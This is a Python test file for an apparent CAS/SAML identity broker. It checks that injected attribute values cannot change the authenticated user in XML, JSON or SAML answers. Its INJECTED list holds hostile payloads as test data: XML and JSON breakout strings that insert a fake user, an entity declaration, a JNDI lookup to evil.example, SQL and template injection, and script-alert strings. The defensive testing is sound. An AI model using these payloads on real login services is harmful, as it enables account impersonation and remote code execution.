"""What a name on a record may do to a CAS answer: nothing. In each shape the user stays who it was."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from xml.etree import ElementTree as ET

import pytest

from broker.domain.release_rules import XmlShape
from broker.domain.released import Attribute
from broker.wire.cas_answer import NOTHING_BESIDE, write_success
from broker.wire.cas_json import json_success
from broker.wire.cas_saml import SamlSubject, write_saml_success
from broker.wire.cas_xml import CasSuccess, parse_service_response

NOW = datetime(2026, 9, 14, 8, 0, tzinfo=UTC)
USER = "0123456789abcdef0123456789abcdef"
CAS = "{http://www.yale.edu/tp/cas}"
INJECTED = (
    "</cas:nom><cas:user>evil</cas:user><cas:nom>", "</cas:attributes><cas:user>evil</cas:user><cas:attributes>",
    "</cas:authenticationSuccess><cas:authenticationSuccess><cas:user>evil</cas:user>",
    "</cas:serviceResponse><cas:serviceResponse>", "<cas:user>evil</cas:user>", "<user>evil</user>",
    "<![CDATA[</cas:nom><cas:user>evil</cas:user>]]>", "]]>", "]]><cas:user>evil</cas:user>", "<!-- evil -->", "-->",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e 'evil'>]>&e;", "&e;", "&lt;cas:user&gt;evil&lt;/cas:user&gt;",
    "&#60;cas:user&#62;evil", "&amp;lt;", "&", "<", ">", '"', "'", "\"/><cas:user>evil</cas:user>", "' or '1'='1",
    '","user":"evil', '"}},"authenticationSuccess":{"user":"evil"}', '\\","user":"evil', "\\", "\\u0022,\\u0022user",
    "{{7*7}}", "${jndi:ldap://evil.example/}", "%3Ccas:user%3Eevil", "a\r\nb", "a\nb", "a\tb", "a\rb",
    "\u2028a", "\u2029a",
    "\u202eevil", "\ufeffa", "\u0085a", "e\u0301", "\U0001f600", "</saml1:AttributeValue><saml1:NameIdentifier>evil",
    "</saml1:NameIdentifier>", "<script>alert(1)</script>", "</script><script>alert(1)//", "x" * 4000,
)  # fmt: skip
"""Every one can be held by XML, and is told as it is."""
UNHOLDABLE = ("a\x00b", "\x01", "a\x08", "\x1b[2J", "\ufffe", "\uffff", " ", "\t")
"""Left out: no document can hold them, or nothing is left of them once they are read."""


def told(value: str, name: str = "nom") -> tuple[Attribute, ...]:
    return (Attribute(name, (value,)), Attribute("prenom", ("Aline",)))


def as_read(text: str) -> str:
    """What XML 1.0 §2.11 and readers that trim leave of a text."""
    return text.strip()


@pytest.mark.parametrize("shape", XmlShape)
@pytest.mark.parametrize("value", INJECTED)
def test_a_value_is_a_value_in_every_shape_of_xml(value: str, shape: XmlShape) -> None:
    body = write_success(USER, told(value), shape=shape).body
    root = ET.fromstring(body)
    assert [each.text for each in root.iter(f"{CAS}user")] == [USER]
    assert len(list(root.iter(f"{CAS}authenticationSuccess"))) == 1
    ours = parse_service_response(body)
    assert isinstance(ours, CasSuccess)
    assert ours.user == USER
    assert ours.attributes["prenom"] == ("Aline",)
    assert [as_read(each) for each in ours.attributes["nom"]] == [as_read(value)]


@pytest.mark.parametrize("value", INJECTED)
def test_a_value_is_a_value_in_json(value: str) -> None:
    body = json_success(USER, told(value), beside=NOTHING_BESIDE)
    success = json.loads(body)["serviceResponse"]["authenticationSuccess"]
    assert success == {"user": USER, "attributes": {"nom": value, "prenom": "Aline"}}
    assert body.count(b'"user":') - json.dumps(value).encode().count(b'"user":') == 1
    assert not set(b"<>&") & set(body)


@pytest.mark.parametrize("value", INJECTED)
def test_a_value_is_a_value_in_saml(value: str) -> None:
    subject = SamlSubject(USER, NOW, "https://notes.example/app/")
    root = ET.fromstring(write_saml_success(subject, told(value), issuer="https://preau.example", now=NOW))
    names = {each.text for each in root.iter("{urn:oasis:names:tc:SAML:1.0:assertion}NameIdentifier")}
    values = [each.text for each in root.iter("{urn:oasis:names:tc:SAML:1.0:assertion}AttributeValue")]
    assert names == {USER}
    assert values == [value, "Aline"]


@pytest.mark.parametrize("value", UNHOLDABLE)
def test_what_cannot_be_held_is_left_out_of_every_format(value: str) -> None:
    for shape in XmlShape:
        answer = write_success(USER, told(value), shape=shape)
        assert answer.dropped == ("nom",)
        read = parse_service_response(answer.body)
        assert isinstance(read, CasSuccess)
        assert dict(read.attributes) == {"prenom": ("Aline",)}
    success = json.loads(json_success(USER, told(value), beside=NOTHING_BESIDE))["serviceResponse"]
    assert success["authenticationSuccess"]["attributes"] == {"prenom": "Aline"}
